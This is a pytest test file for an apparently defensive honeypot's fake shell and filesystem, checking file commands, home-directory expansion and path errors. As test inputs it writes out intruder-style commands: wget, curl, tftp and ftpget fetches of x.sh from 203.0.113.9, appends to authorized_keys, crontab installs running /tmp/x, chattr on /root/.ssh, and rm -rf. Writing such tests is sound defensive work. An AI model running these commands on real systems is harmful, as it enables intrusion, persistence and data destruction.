"""File-manipulation commands and the fake filesystem."""

from __future__ import annotations

import pytest

from repro.honeypot.fs import FakeFilesystem
from repro.honeypot.session import FileOp
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine


@pytest.fixture
def ctx():
    return ShellContext()


@pytest.fixture
def engine(ctx):
    return ShellEngine(ctx)


class TestFakeFilesystem:
    def test_normalize_relative(self):
        assert FakeFilesystem.normalize("f", "/tmp") == "/tmp/f"

    def test_normalize_tilde(self):
        assert FakeFilesystem.normalize("~/.ssh/keys", "/") == "/root/.ssh/keys"

    def test_normalize_dotdot(self):
        assert FakeFilesystem.normalize("../etc/passwd", "/tmp") == "/etc/passwd"

    def test_baseline_files_present(self):
        fs = FakeFilesystem()
        assert fs.is_file("/etc/passwd")
        assert fs.is_dir("/tmp")

    def test_write_and_read(self):
        fs = FakeFilesystem()
        node, created = fs.write("/tmp/a", b"x")
        assert created and fs.read("/tmp/a") == b"x"
        _, created2 = fs.write("/tmp/a", b"y")
        assert not created2 and fs.read("/tmp/a") == b"y"

    def test_write_creates_parents(self):
        fs = FakeFilesystem()
        fs.write("/tmp/deep/nested/file", b"x")
        assert fs.is_dir("/tmp/deep/nested")

    def test_delete_tree(self):
        fs = FakeFilesystem()
        fs.write("/tmp/d/a", b"1")
        fs.write("/tmp/d/b", b"2")
        doomed = fs.delete_tree("/tmp/d")
        assert sorted(doomed) == ["/tmp/d/a", "/tmp/d/b"]
        assert not fs.is_dir("/tmp/d")

    def test_listdir(self):
        fs = FakeFilesystem()
        fs.write("/tmp/x", b"")
        fs.mkdirs("/tmp/sub")
        entries = fs.listdir("/tmp")
        assert "x" in entries and "sub" in entries

    def test_chmod_exec(self):
        fs = FakeFilesystem()
        fs.write("/tmp/x", b"")
        assert fs.chmod_exec("/tmp/x")
        assert fs.get("/tmp/x").executable
        assert not fs.chmod_exec("/tmp/ghost")


class TestRm:
    def test_rm_single(self, ctx, engine):
        engine.run_line("echo x > /tmp/f")
        engine.run_line("rm /tmp/f")
        assert not ctx.fs.is_file("/tmp/f")
        assert any(e.op == FileOp.DELETE for e in ctx.file_events)

    def test_rm_rf_glob(self, ctx, engine):
        engine.run_line("echo a > /tmp/a; echo b > /tmp/b")
        engine.run_line("cd /tmp; rm -rf /tmp/*")
        assert not ctx.fs.is_file("/tmp/a")
        assert not ctx.fs.is_file("/tmp/b")

    def test_rm_missing_fails(self, engine):
        record = engine.run_line("rm /tmp/ghost")
        assert not engine.run_line("rm /tmp/ghost && echo ok").output

    def test_rm_rf_directory(self, ctx, engine):
        engine.run_line("mkdir /tmp/d; echo x > /tmp/d/f")
        engine.run_line("rm -rf /tmp/d")
        assert not ctx.fs.is_dir("/tmp/d")


class TestMvCpTouch:
    def test_mv(self, ctx, engine):
        engine.run_line("echo x > /tmp/src")
        engine.run_line("mv /tmp/src /tmp/dst")
        assert not ctx.fs.is_file("/tmp/src")
        assert ctx.fs.read("/tmp/dst") == b"x\n"

    def test_cp_keeps_source(self, ctx, engine):
        engine.run_line("echo x > /tmp/src")
        engine.run_line("cp /tmp/src /tmp/dst")
        assert ctx.fs.is_file("/tmp/src") and ctx.fs.is_file("/tmp/dst")

    def test_cp_into_directory(self, ctx, engine):
        engine.run_line("echo x > /tmp/src")
        engine.run_line("cp /tmp/src /var/tmp")
        assert ctx.fs.is_file("/var/tmp/src")

    def test_mv_missing_source(self, engine):
        assert "cannot stat" in engine.run_line("mv /tmp/ghost /tmp/x").output

    def test_touch_creates_empty(self, ctx, engine):
        engine.run_line("touch /tmp/new")
        assert ctx.fs.read("/tmp/new") == b""

    def test_touch_existing_not_truncated(self, ctx, engine):
        engine.run_line("echo keep > /tmp/f")
        engine.run_line("touch /tmp/f")
        assert ctx.fs.read("/tmp/f") == b"keep\n"


class TestDd:
    def test_urandom_deterministic_per_entropy(self):
        a = ShellContext(entropy="session-1")
        ShellEngine(a).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        b = ShellContext(entropy="session-1")
        ShellEngine(b).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        assert a.fs.read("/tmp/r") == b.fs.read("/tmp/r")

    def test_urandom_differs_across_sessions(self):
        a = ShellContext(entropy="session-1")
        ShellEngine(a).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        b = ShellContext(entropy="session-2")
        ShellEngine(b).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        assert a.fs.read("/tmp/r") != b.fs.read("/tmp/r")

    def test_copy_file(self, ctx, engine):
        engine.run_line("echo data > /tmp/in")
        engine.run_line("dd if=/tmp/in of=/tmp/out")
        assert ctx.fs.read("/tmp/out") == b"data\n"

    def test_fingerprint_form_no_event(self, ctx, engine):
        engine.run_line("dd bs=22 count=1 if=/proc/self/exe")
        assert ctx.file_events == []


class TestMiscOps:
    def test_sed_in_place_emits_modify(self, ctx, engine):
        engine.run_line("echo x > /tmp/f")
        engine.run_line("sed -i s/x/y/ /tmp/f")
        modifies = [e for e in ctx.file_events if e.op == FileOp.MODIFY]
        assert modifies

    def test_chattr_noop(self, engine):
        assert engine.run_line("chattr -ia /root/.ssh").known


class TestHomeExpansion:
    def test_tilde_is_the_users_home(self):
        engine = ShellEngine(ShellContext(user="phil"))
        assert engine.run_line("cd ~; pwd").output == "/home/phil\n"
        assert engine.run_line("cd /tmp; cd; pwd").output == "/home/phil\n"

    def test_tilde_write_lands_in_the_users_home(self):
        ctx = ShellContext(user="phil")
        ShellEngine(ctx).run_line("echo k >> ~/.ssh/authorized_keys")
        [event] = ctx.file_events
        assert (event.path, event.op) == (
            "/home/phil/.ssh/authorized_keys",
            FileOp.CREATE,
        )

    def test_tilde_follows_home_variable(self, ctx, engine):
        engine.run_line("HOME=/tmp")
        assert ctx.resolve("~/x") == "/tmp/x"

    def test_tilde_name_is_that_users_home(self):
        ctx = ShellContext(user="phil")
        assert ctx.resolve("~phil/x") == "/home/phil/x"
        assert ctx.resolve("~root") == "/root"
        assert ShellContext().resolve("~phil") == "/home/phil"

    def test_root_resolves_as_before(self, ctx):
        assert ctx.resolve("~") == ctx.cwd == "/root"
        assert ctx.resolve("~/.ssh") == ctx.cwd + "/.ssh"


class TestDirectoryWrites:
    def test_redirect_to_a_directory_fails(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        record = engine.run_line("echo x > /tmp || echo failed")
        assert record.output == "-bash: /tmp: Is a directory\nfailed\n"
        assert ctx.file_events == []
        assert ctx.fs.fingerprint == fingerprint
        assert ctx.fs.is_dir("/tmp") and not ctx.fs.is_file("/tmp")

    def test_append_to_a_directory_fails(self, ctx, engine):
        record = engine.run_line("cd /tmp; echo x >> .")
        assert record.output == "-bash: .: Is a directory\n"
        assert not ctx.fs.is_file("/tmp")

    def test_filesystem_refuses_a_directory_path(self):
        fs = FakeFilesystem()
        assert fs.write("/tmp", b"x") is None
        assert not fs.is_file("/tmp")
        assert fs.fingerprint == FakeFilesystem().fingerprint

    def test_mv_onto_a_directory_keeps_the_source(self, ctx, engine):
        engine.run_line("mkdir -p /tmp/d/a; echo x > /tmp/a")
        events = list(ctx.file_events)
        record = engine.run_line("mv /tmp/a /tmp/d")
        assert record.output == (
            "mv: cannot overwrite directory '/tmp/d/a' with non-directory\n"
        )
        assert ctx.fs.read("/tmp/a") == b"x\n"
        assert ctx.file_events == events

    def test_touch_leaves_a_directory_alone(self, ctx, engine):
        engine.run_line("touch /tmp")
        assert ctx.file_events == []
        assert not ctx.fs.is_file("/tmp")


class TestWritesUnderAFile:
    """A regular file is never a directory: nothing is made under one."""

    @staticmethod
    def assert_unchanged(ctx, fingerprint):
        assert ctx.file_events == []
        assert ctx.fs.fingerprint == fingerprint
        for path in ("/etc/passwd", "/etc/hosts", "/etc/shadow", "/etc/issue"):
            assert ctx.fs.is_file(path) and not ctx.fs.is_dir(path)

    def test_mkdir_on_a_file(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        record = engine.run_line("mkdir /etc/passwd || echo failed")
        assert record.output == (
            "mkdir: cannot create directory '/etc/passwd': File exists\nfailed\n"
        )
        self.assert_unchanged(ctx, fingerprint)

    def test_mkdir_under_a_file(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        record = engine.run_line("cd /etc; mkdir -p passwd/x")
        assert record.output == (
            "mkdir: cannot create directory 'passwd/x': Not a directory\n"
        )
        self.assert_unchanged(ctx, fingerprint)
        assert not ctx.fs.is_dir("/etc/passwd/x")

    def test_cd_into_a_file_still_fails(self, ctx, engine):
        record = engine.run_line("mkdir /etc/passwd; cd /etc/passwd")
        assert record.output.endswith("-bash: cd: /etc/passwd: Not a directory\n")
        assert ctx.cwd == "/root"

    def test_redirect_under_a_file(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        record = engine.run_line("echo x > /etc/hosts/y || echo failed")
        assert record.output == "-bash: /etc/hosts/y: Not a directory\nfailed\n"
        self.assert_unchanged(ctx, fingerprint)
        assert not ctx.fs.exists("/etc/hosts/y")

    def test_touch_under_a_file(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        record = engine.run_line("touch /etc/passwd/z")
        assert record.output == (
            "touch: cannot touch '/etc/passwd/z': Not a directory\n"
        )
        self.assert_unchanged(ctx, fingerprint)

    def test_cp_under_a_file(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        record = engine.run_line("cp /etc/hosts /etc/passwd/q")
        assert record.output == "cp: cannot stat '/etc/passwd/q': Not a directory\n"
        self.assert_unchanged(ctx, fingerprint)

    def test_mv_under_a_file_keeps_the_source(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        record = engine.run_line("mv /etc/issue /etc/shadow/k")
        assert record.output == "mv: cannot stat '/etc/shadow/k': Not a directory\n"
        self.assert_unchanged(ctx, fingerprint)

    def test_dd_under_a_file_or_onto_a_directory(self, ctx, engine):
        fingerprint = ctx.fs.fingerprint
        for target, reason in (
            ("/etc/passwd/x", "Not a directory"),
            ("/tmp", "Is a directory"),
        ):
            record = engine.run_line(
                f"dd if=/dev/zero of={target} bs=1 count=1 || echo failed"
            )
            assert record.output == (
                f"dd: failed to open '{target}': {reason}\nfailed\n"
            )
        self.assert_unchanged(ctx, fingerprint)

    @pytest.mark.parametrize(
        "setup,reason",
        [
            ("rm -rf /var/spool/cron; echo x > /var/spool/cron", "Not a directory"),
            ("rm /var/spool/cron/root; mkdir /var/spool/cron/root", "Is a directory"),
        ],
        ids=["under-a-file", "onto-a-directory"],
    )
    def test_crontab_install_refused(self, ctx, engine, setup, reason):
        engine.run_line(setup)
        ctx.file_events.clear()
        fingerprint = ctx.fs.fingerprint
        for line in (
            "echo '* * * * * /tmp/x' | crontab -",
            "echo '* * * * * /tmp/x' | crontab",
            "crontab /etc/hosts",
        ):
            record = engine.run_line(f"{line} || echo failed")
            assert record.output == (
                f"crontab: /var/spool/cron/root: {reason}\nfailed\n"
            )
        self.assert_unchanged(ctx, fingerprint)

    def test_downloads_under_a_file(self):
        url = "http://203.0.113.9/x.sh"
        for line, output in (
            (f"wget -O /etc/passwd/w {url}", "/etc/passwd/w: Not a directory\n"),
            (
                f"curl -o /etc/passwd/c {url}",
                "curl: (23) Failure writing output to destination\n",
            ),
            (
                "tftp -g -r /etc/passwd/t 203.0.113.9",
                "tftp: can't open '/etc/passwd/t': Not a directory\n",
            ),
            (
                "ftpget 203.0.113.9 /etc/passwd/f x.sh",
                "ftpget: can't open '/etc/passwd/f': Not a directory\n",
            ),
        ):
            ctx = ShellContext(
                remote_files={
                    url: b"payload",
                    "tftp://203.0.113.9//etc/passwd/t": b"payload",
                    "ftp://203.0.113.9/x.sh": b"payload",
                }
            )
            fingerprint = ctx.fs.fingerprint
            record = ShellEngine(ctx).run_line(f"{line} || echo failed")
            assert record.output == output + "failed\n"
            self.assert_unchanged(ctx, fingerprint)

    def test_filesystem_refuses_paths_under_a_file(self):
        fs = FakeFilesystem()
        assert not fs.mkdirs("/etc/passwd")
        assert not fs.mkdirs("/etc/passwd/x/y")
        assert fs.write("/etc/hosts/y", b"x") is None
        assert fs.fingerprint == FakeFilesystem().fingerprint
        assert not fs.is_dir("/etc/passwd") and not fs.is_dir("/etc/hosts")
